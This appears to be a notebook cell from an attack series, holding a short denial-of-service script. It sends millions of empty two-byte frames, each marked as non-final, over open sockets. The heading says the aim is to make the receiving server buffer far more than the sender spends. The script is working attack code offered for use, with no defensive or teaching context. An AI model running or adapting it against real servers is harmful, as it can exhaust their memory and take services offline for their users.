# %% [markdown]
# # **denial: sends frames of nothing, each of which says that there are more**
#
# Two bytes are enough for a frame, and who keeps it needs twenty times as much.
# after: sockets

# %%
block = b"\1\0" * 1_000_000
for one in own_sockets():
    one.settimeout(5)
    try:
        for _ in range(100):
            one.sendall(block)
    except OSError:
        pass
